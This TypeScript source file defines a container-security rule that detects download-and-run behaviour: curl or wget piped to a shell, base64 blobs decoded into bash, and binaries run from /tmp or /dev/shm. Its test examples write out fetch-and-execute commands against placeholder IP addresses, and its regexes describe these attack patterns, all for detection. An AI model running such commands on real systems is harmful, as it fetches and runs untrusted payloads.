import { type NodeEvent, NodeEventType } from '../../../node/nodeEvent';
import { falcoAlertEvent, processExecEvent } from '../../../node/exampleNodeEvents';
import { type DetectionContext } from '../../detectionContext';
import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
import {
  argumentList,
  baseName,
  commandSearchText,
  isExec,
  isExecProbe,
  isShell,
  isSystemWorkload,
  parsedPipelines,
  type ShellCommand,
} from '../../predicates/nodeProcesses';
import { defineNodeRule, Intent, Severity } from '../../rule';

/** Interpreters a download can be piped into. */
const INTERPRETER = /^(?:sh|bash|dash|ash|zsh|ksh|mksh|busybox|python[\d.]*|perl|ruby|php[\d.]*|node)$/i;

/** World-writable scratch directories attackers drop payloads in; binaries are not installed there. */
const SCRATCH_DIRECTORY = /^\/(?:tmp|var\/tmp|dev\/shm|run\/shm|dev\/mqueue)\//;
/** Shared memory, where nothing legitimate keeps scripts either (Falco's "Execution from /dev/shm"). */
const SHARED_MEMORY = /^\/(?:dev|run)\/shm\//;

/** `base64 -d`, `base64 --decode`, `openssl base64 -d`, `openssl enc -base64 -d`. */
function isBase64Decode(command: ShellCommand): boolean {
  const name = command.lowerName;
  if (name !== 'base64' && name !== 'base32' && name !== 'openssl') return false;
  const options = command.words.slice(1);
  if (name === 'base64' || name === 'base32') return options.some((word) => word === '-d' || word === '--decode' || word === '-D' || /^-[a-ce-z]*d[a-z]*$/i.test(word));
  if (name === 'openssl') return options.some((word) => word === 'base64' || word === '-base64' || word === '-a') && options.includes('-d');
  return false;
}

/** `$(curl ...)`, `` `wget ...` `` or `<(curl ...)` run by a shell, `eval` or `source`. */
const SUBSTITUTION_RUN = /(?:(?<!-)\b(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*["']?|\beval\s+["']?|\bsource\s+|(?:^|[\s;&|])\.\s+)(?:\$\(|<\(|`)\s*(?:sudo\s+)?(\S+)/gi;

/** What makes the command line a download-and-run, by name; empty when it is not one. */
function downloadAndRunIndicators(event: NodeEvent, context: DetectionContext): string[] {
  const process = event.process;
  const found: string[] = [];
  if (SCRATCH_DIRECTORY.test(process.binary)) found.push(`binary run from ${process.binary.split('/').slice(0, -1).join('/') || '/'}`);
  if (isShell(process, context)) {
    const script = argumentList(process).find((arg) => !arg.startsWith('-'));
    if (script !== undefined && SHARED_MEMORY.test(script)) found.push('script run from shared memory');
  }
  const text = commandSearchText(process, context);
  for (const pipeline of parsedPipelines(process, context)) {
    for (let index = 0; index + 1 < pipeline.length; index += 1) {
      const command = pipeline[index];
      const next = pipeline[index + 1]?.name ?? '';
      if (command === undefined || !INTERPRETER.test(next)) continue;
      const name = command.name;
      if (context.lists.downloadTools.matches(name)) found.push(`${name} piped to ${next}`);
      else if (isBase64Decode(command)) found.push(`base64 decoded and piped to ${next}`);
    }
  }
  // A substitution needs `$(`, `<(` or a backquote.
  const substitutes = text.includes('(') || text.includes('`');
  for (const match of substitutes ? text.matchAll(SUBSTITUTION_RUN) : []) {
    const tool = baseName(match[1] ?? '');
    if (context.lists.downloadTools.matches(tool)) found.push(`${tool} output run by a shell`);
  }
  return [...new Set(found)];
}

const app = { namespace: 'shop', name: 'api-5b6c7d8e9f-k3j2h', container: 'api', image: 'contoso.azurecr.io/shop/api:2.14.0' };

export const downloadAndRun = defineNodeRule({
  id: 'download-and-run',
  alertType: 'K8S.NODE_DownloadAndRunCombo',
  displayName: 'Download and run: a fetched or decoded payload executed',
  description:
    'A command fetched code and ran it in the same breath: `curl ... | sh`, `wget -O- ... | bash`, `sh -c "$(curl ...)"`, or ' +
    'a base64 blob decoded and piped into a shell (`echo <b64> | base64 -d | bash`); or a program was executed from a ' +
    'world-writable scratch directory (/tmp, /var/tmp, /dev/shm), where droppers put their payloads and nothing is installed. ' +
    'This is the usual second step of an intrusion: the first command an attacker runs fetches the real tooling (miners, ' +
    'botnets, backdoors).',
  severity: Severity.Medium,
  intent: Intent.Execution,
  techniques: ['T1105', 'T1059.004', 'T1027', 'T1140'],
  remediation: [
    'Find what was downloaded (the URL in the command) and what it ran; treat the container or node as compromised if it is not a known installer.',
    'Block the source at the egress firewall and look for the same download elsewhere in the cluster.',
    'Redeploy the workload from its image; mount /tmp with noexec (emptyDir with a read-only root file system) and restrict egress.',
  ],
  falsePositives: [
    'Installation scripts piped into a shell by an administrator or a build step (`curl -sL https://aka.ms/InstallAzureCLIDeb | bash`).',
    'Self-extracting installers and test binaries that unpack into /tmp and run from there.',
  ],
  references: [
    'https://attack.mitre.org/techniques/T1105/',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://github.com/falcosecurity/rules/blob/main/rules/falco_rules.yaml',
    'https://www.microsoft.com/security/blog/2020/06/10/misconfigured-kubeflow-workloads-are-a-security-risk/',
  ],
  equivalents: {
    defender: ['K8S.NODE_DownloadAndRunCombo', 'K8S.NODE_SuspectDownloadArtifacts', 'K8S.NODE_LinuxBackdoorArtifact'],
    falco: ['Execution from /dev/shm'],
    guardDuty: ['Execution:Runtime/SuspiciousCommand'],
    elastic: ['Binary Executed from Shared Memory Directory', 'Suspicious Download and Execute Pattern via Curl/Wget', 'Linux Base64 Encoded Pipe to Shell'],
  },
  eventTypes: [NodeEventType.processExec],
  match: (event, context) => isExec(event) && !isExecProbe(event) && !isSystemWorkload(event, context) && downloadAndRunIndicators(event, context).length > 0,
  entities: (event) => nodeEventEntities(event),
  details: (event, context) => ({
    command: commandLineOf(event.process),
    indicators: downloadAndRunIndicators(event, context).join(', '),
    ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
  }),
  dedupKey: (event) => nodeDedupKey(event, 'download-and-run'),
  examples: [
    {
      name: 'curl piped to sh in an application container',
      expect: 'alert',
      event: processExecEvent({
        binary: '/bin/sh',
        arguments: '-c "curl -fsSL http://198.51.100.23/k.sh | sh"',
        pod: app,
        parent: { binary: '/usr/local/bin/node', arguments: '/app/dist/server.js', pid: 1 },
      }),
    },
    {
      name: 'wget -qO- piped to bash on the node',
      expect: 'alert',
      event: processExecEvent({ binary: '/bin/bash', arguments: "-c 'wget -q -O- http://198.51.100.23/init.sh | bash'", pod: null, parent: { binary: '/usr/sbin/cron', arguments: '-f', pod: null } }),
    },
    {
      name: 'a base64 blob decoded into bash',
      expect: 'alert',
      event: processExecEvent({
        binary: '/bin/bash',
        arguments: '-c "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94IHwgc2gK | base64 -d | bash"',
        pod: app,
      }),
    },
    {
      name: 'a binary run from /dev/shm',
      expect: 'alert',
      event: processExecEvent({ binary: '/dev/shm/.x/dbus-daemon', arguments: '--system', pod: app, parent: { binary: '/bin/sh', arguments: '' } }),
    },
    {
      name: 'sh -c "$(curl ...)"',
      expect: 'alert',
      event: processExecEvent({ binary: '/bin/bash', arguments: '-c "sh -c "$(curl -fsSL https://203.0.113.9/install)""', pod: app }),
    },
    {
      name: 'Falco: Execution from /dev/shm',
      expect: 'alert',
      event: falcoAlertEvent({
        rule: 'Execution from /dev/shm',
        priority: 'Warning',
        outputFields: { 'proc.cmdline': '.b -s', 'proc.exepath': '/dev/shm/.b', 'proc.name': '.b', 'proc.pname': 'sh', 'proc.cwd': '/dev/shm/' },
        tags: ['maturity_stable', 'host', 'container', 'mitre_execution', 'T1059.004'],
      }),
    },
    {
      name: 'a curl health check',
      expect: 'none',
      event: processExecEvent({ binary: '/bin/sh', arguments: '-c "curl -fsS http://localhost:8080/healthz || exit 1"', pod: app }),
    },
    {
      name: 'a signing key fetched with wget and piped to gpg',
      expect: 'none',
      event: processExecEvent({
        binary: '/bin/sh',
        arguments: '-c "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > /etc/apt/trusted.gpg.d/microsoft.gpg"',
        pod: null,
      }),
    },
    {
      name: 'a script run from /tmp by the shell (not from shared memory)',
      expect: 'none',
      event: processExecEvent({ binary: '/bin/bash', arguments: '/tmp/migrate-db.sh', pod: app }),
    },
    {
      name: 'a base64 value decoded into a file',
      expect: 'none',
      event: processExecEvent({ binary: '/bin/sh', arguments: '-c "echo $TLS_CERT | base64 -d > /etc/ssl/app.pem"', pod: app }),
    },
  ],
});
